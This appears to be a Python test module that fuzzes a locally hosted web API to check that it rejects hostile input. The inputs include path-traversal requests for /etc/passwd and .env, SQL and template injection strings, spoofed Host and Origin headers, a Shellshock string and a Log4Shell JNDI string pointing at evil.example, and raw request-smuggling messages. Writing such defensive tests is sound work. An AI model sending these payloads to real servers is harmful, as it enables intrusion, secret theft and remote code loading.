"""Hostile paths, methods, headers and framing."""

import json
from collections.abc import Iterator

from attacks import (
    ANY,
    FORBIDDEN,
    FOUND,
    KEPT,
    MISSING,
    UNREADABLE,
    UNSUITED,
    Attack,
    Target,
    attack,
    make_attack,
    make_source,
)
from wire import make_request

_IDS = (
    "0", "-1", "-0", "+1", "1.0", "1e0", "0x1", "1_0", "9223372036854775807", "9223372036854775808",
    "18446744073709551617", "9" * 5000, "1%0a", "1%0d%0a", "%201", "1%20", "1%00", "%00", "%ff",
    "%EF%BC%91", "%D9%A1", "null", "undefined", "NaN", "true", "*", "'", "1'--", "1;DROP%20TABLE",
    "1%20OR%201=1", "{id}", "[]", "%7B%7B7*7%7D%7D", "..", "..%2f1", "1,2", "1/2", "1/", "%2e",
)  # fmt: skip
_PATHS = (
    "/%00", "/%ff%fe", "/%zz", "/%", "/..%2f..%2f..%2fetc/passwd", "/../../../etc/passwd",
    "/static/../pyproject.toml", "/static/%2e%2e/%2e%2e/pyproject.toml", "/static/..%5c..%5ca",
    "/static/%00", "/static//etc/passwd", "/static/style.css/", "/static/", "/.env", "/.git/config",
    "//evil.example/", "/%5c%5cevil.example", "///", "/api", "/api/", "/api//", "/API/none",
    "/;a=b",
    "/api/none", "/health", "/health/", "/health/ready/", "/health/%72eady", "/admin",
    "/server-status",
    "/openapi.json/", "/docs/..", "/\\evil", "/a b".replace(" ", "%20"), "/" + "a" * 8000,
    "/" + "a/" * 4000, "/%e2%80%ae", "/{{7*7}}", "/<script>", "/?", "/#a", "/favicon.ico",
)  # fmt: skip
_FOUND_OR_MISSING = FOUND | MISSING | {307, 308, 400, 405}
_METHODS = ("TRACE", "PROPFIND", "LINK", "PURGE", "SEARCH", "MKCOL", "COPY", "LOCK", "REPORT")
_HOSTS = {
    "evil.example": UNREADABLE,
    "127.0.0.1.evil.example": UNREADABLE,
    "evil.example:80": UNREADABLE,
    "127.0.0.1@evil.example": UNREADABLE,
    "evil.example/127.0.0.1": UNREADABLE,
    "": UNREADABLE,
    "*": UNREADABLE,
    ".": UNREADABLE,
    "\xff": UNREADABLE,
    "a" * 5000: UNREADABLE,
    "LOCALHOST": FOUND | UNREADABLE,
    "127.0.0.1:99999": FOUND | UNREADABLE,
    "localhost:evil": FOUND | UNREADABLE,
    "[::1]": UNREADABLE | FOUND,
}
_ODD_HEADERS = (
    ("X-Request-ID", "a" * 65), ("X-Request-ID", ""), ("X-Request-ID", "<script>evil</script>"),
    ("X-Request-ID", "a b"), ("X-Request-ID", "\xe9evil"), ("X-Request-ID", "a;evil"),
    ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-For", "' OR 1=1"),
    ("X-Forwarded-Proto", "evil"), ("Forwarded", "host=evil.example"),
    ("X-Original-URL", "/evil"), ("X-HTTP-Method-Override", "DELETE"), ("Accept", "evil/evil"),
    ("Accept", "*" * 5000), ("Accept-Encoding", "gzip;q=evil"), ("Accept-Language", "a" * 5000),
    ("Range", "bytes=0-0,1-1,2-2"), ("Range", "bytes=9-1"), ("If-None-Match", '"'),
    ("If-Modified-Since", "evil"), ("Cookie", "a=b; " * 1500), ("Cookie", "=;=;\xff"),
    ("Authorization", "Basic evil"), ("Content-Type", "\xff"), ("Origin", "https://evil.example"),
    ("Sec-Fetch-Site", "cross-site"), ("Referer", "https://evil.example"), ("TE", "trailers"),
    ("User-Agent", "() { :; }; echo evil"), ("User-Agent", "${jndi:ldap://evil.example/a}"),
    ("Upgrade", "h2c"), ("Expect", "evil"), ("\x21#$%&'*+-.^_`|~", "a"), ("Content-Length", "0"),
)  # fmt: skip
_FOREIGN = (
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Origin": "http://127.0.0.1:1"},
    {"Origin": "http://127.0.0.1.evil.example"},
    {"Origin": "evil"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Sec-Fetch-Site": "evil"},
    {"Sec-Fetch-Site": "cross-site", "Origin": "http://127.0.0.1"},
)
_OWN: tuple[dict[str, str], ...] = (
    {},
    {"Origin": "http://127.0.0.1"},
    {"Sec-Fetch-Site": "same-origin"},
    {"Sec-Fetch-Site": "none"},
    {"Sec-Fetch-Site": "same-origin", "Origin": "https://127.0.0.1"},
)


def attack_paths(target: Target) -> Iterator[Attack]:
    """Ask for rows with ids that are none, and for what is outside of the application."""
    for resource in target.resources:
        row = make_source(target.make_row(resource))
        for text in _IDS:
            path = f"{resource.path}/{text}"
            name = f"{resource.path}/{text[:40]}"
            yield make_attack(
                name, "GET", path, MISSING | {307, 308} if text in ("1/", "..", "%2e") else MISSING
            )
            yield make_attack(name, "DELETE", path, MISSING | {307, 308, 405})
            yield attack(resource, text[:40], row, MISSING | {307, 308, 405}, "PUT", path)
        yield make_attack(f"{resource.path}/", "GET", f"{resource.path}/", _FOUND_OR_MISSING)
    for path in _PATHS:
        yield make_attack(path[:60], "GET", path, _FOUND_OR_MISSING | {414})


def attack_methods(target: Target) -> Iterator[Attack]:
    """Use methods that a path does not have."""
    for resource in target.resources:
        item = f"{resource.path}/{target.ids[resource.name]}"
        for path, methods in (
            (resource.path, (*_METHODS, "PUT", "PATCH", "DELETE")),
            (item, (*_METHODS, "POST")),
            ("/health/live", (*_METHODS, "POST", "DELETE")),
        ):
            for method in methods:
                yield make_attack(path, method, path, UNSUITED)
            yield make_attack(path, "OPTIONS", path, UNSUITED | {200, 204})
            yield make_attack(path, "HEAD", path, FOUND)
        preflight = (("Origin", "https://evil.example"), ("Access-Control-Request-Method", "PUT"))
        yield make_attack(item, "OPTIONS", item, ANY, *preflight)
    yield make_attack("an unknown path", "TRACE", "/none", MISSING | UNSUITED, ("X-Evil", "evil"))


def attack_headers(target: Target) -> Iterator[Attack]:
    """Send headers that lie, that are junk, or that come from another site."""
    resource = target.resources[0]
    for host, expected in _HOSTS.items():
        yield make_attack(
            f"with the host {host[:30]}", "GET", "/health/live", expected, ("Host", host)
        )
    for name, value in _ODD_HEADERS:
        expected = FOUND | {206, 400, 416, 417, 426}
        yield make_attack(
            f"with {name}: {value[:30]}", "GET", resource.path, expected, (name, value)
        )
    many = [(f"X-{number}", "a") for number in range(500)]
    yield make_attack("with 500 headers", "GET", resource.path, FOUND | {400, 431}, *many)
    for headers in _FOREIGN:
        row = make_source(target.make_row(resource))
        yield attack(resource, f"from {headers}", row, FORBIDDEN, headers=headers)
        item = f"{resource.path}/{target.ids[resource.name]}"
        yield make_attack(f"from {headers}", "DELETE", item, FORBIDDEN, *headers.items())
    for headers in _OWN:
        row = make_source(target.make_row(resource))
        expected = KEPT | FORBIDDEN if len(headers) == 2 else KEPT
        yield attack(resource, f"from {headers}", row, expected, headers=headers)


def attack_framing(target: Target) -> Iterator[Attack]:
    """Send what one server takes for one request and another for two, and what is no HTTP."""
    resource = target.resources[0]
    body = json.dumps(target.make_row(resource)).encode()
    head = f"POST {resource.path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    length = f"Content-Length: {len(body)}\r\n"
    chunked = "Transfer-Encoding: chunked\r\n"
    chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    smuggled = b"GET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    get = "GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    messages = {
        "two lengths": (f"{head}{length}Content-Length: 1\r\n\r\n", body),
        "a list of lengths": (f"{head}Content-Length: 5, 5\r\n\r\n", body),
        "a length below zero": (f"{head}Content-Length: -1\r\n\r\n", body),
        "a length with a sign": (f"{head}Content-Length: +{len(body)}\r\n\r\n", body),
        "a hexadecimal length": (f"{head}Content-Length: 0x10\r\n\r\n", body),
        "an endless length": (f"{head}Content-Length: {'9' * 30}\r\n\r\n", body),
        "a length that is no number": (f"{head}Content-Length: evil\r\n\r\n", body),
        "length and chunks": (f"{head}Content-Length: 4\r\n{chunked}\r\n", chunks + smuggled),
        "chunks and length": (f"{head}{chunked}Content-Length: 4\r\n\r\n", chunks + smuggled),
        "chunks twice": (f"{head}{chunked}{chunked}\r\n", chunks),
        "another coding": (f"{head}Transfer-Encoding: evil\r\n\r\n", chunks),
        "a coding after chunked": (f"{head}Transfer-Encoding: chunked, evil\r\n\r\n", chunks),
        "a blank before the colon": (f"{head}Transfer-Encoding : chunked\r\n{length}\r\n", chunks),
        "a chunk of no size": (f"{head}{chunked}\r\n", b"evil\r\n"),
        "a chunk below zero": (f"{head}{chunked}\r\n", b"-1\r\n" + body),
        "a chunk without end": (f"{head}{chunked}\r\n", b"f" * 20 + b"\r\n" + body),
        "a folded header": (f"{get}X-A: a\r\n b\r\n\r\n", b""),
        "NUL in a header": (f"{get}X-A: a\0b\r\n\r\n", b""),
        "a bare newline": (f"{get}X-A: a\nX-B: evil\n\n", b""),
        "a bare return": (f"{get}X-A: a\rX-B: evil\r\n\r\n", b""),
        "no name": (f"{get}: a\r\n\r\n", b""),
        "no colon": (f"{get}evil\r\n\r\n", b""),
        "a header of 300 KB": (f"{get}X-A: {'a' * 300_000}\r\n\r\n", b""),
        "20,000 headers": (get + "X-A: a\r\n" * 20_000 + "\r\n", b""),
        "no host": ("GET /health/live HTTP/1.1\r\n\r\n", b""),
        "two hosts": (f"{get}Host: evil.example\r\n\r\n", b""),
        "HTTP/1.0 without a host": ("GET /health/live HTTP/1.0\r\n\r\n", b""),
        "HTTP/0.9": ("GET /\r\n\r\n", b""),
        "HTTP/2": ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\0" * 50),
        "HTTP/9.9": ("GET / HTTP/9.9\r\n\r\n", b""),
        "a method in lower case": ("get / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "a long method": (f"{'A' * 5000} / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "CONNECT": ("CONNECT evil.example:443 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "an absolute target": ("GET http://evil.example/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "a target that is a star": ("OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "a target without a slash": ("GET evil HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "a blank in the target": ("GET /a b HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "bytes in the target": ("GET /\xff\xfe?\xff=\xfe HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "an address of 60 KB": (f"GET /{'a' * 60_000} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
        "a query of 60 KB": (get.replace("live", f"live?{'a' * 60_000}") + "\r\n", b""),
        "TLS": ("\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03", bytes(500)),
        "bytes": ("\0\xff" * 500, b"\r\n\r\n"),
        "a websocket": (
            f"{get}Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
            b"",
        ),
        "a bad websocket": (f"{get}Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n", b""),
    }
    for name, (text, rest) in messages.items():
        yield Attack(name, text.encode("latin-1") + rest, ANY, broken=True)
    with_body = make_request("GET", "/health/live", b'{"a": 1}')
    yield Attack("GET with a body", with_body, FOUND)
    expect = make_request("POST", resource.path, body, [("Expect", "100-continue")])
    yield Attack("POST that waits to continue", expect, KEPT, "POST")
